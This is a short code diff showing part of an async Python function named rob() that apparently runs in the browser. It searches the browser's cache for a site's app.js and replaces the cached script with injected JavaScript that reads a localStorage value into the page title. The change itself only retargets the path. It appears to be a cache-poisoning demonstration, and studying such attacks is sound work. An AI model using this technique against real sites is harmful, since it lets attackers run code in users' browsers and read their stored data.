@@ -104,7 +104,7 @@ async def rob():
     for name in await js.caches.keys():
         cache = await js.caches.open(name)
         for request in await cache.keys():
-            if request.url.endswith("/app/app.js"):
+            if request.url.endswith("/pages/app.js"):
                 headers = js.Headers.new([["Content-Type", "text/javascript"]])
                 text = "document.title = `Robbed of ${localStorage['regalia.match.1']}`"
                 await cache.put(request, js.Response.new(text, headers=headers))
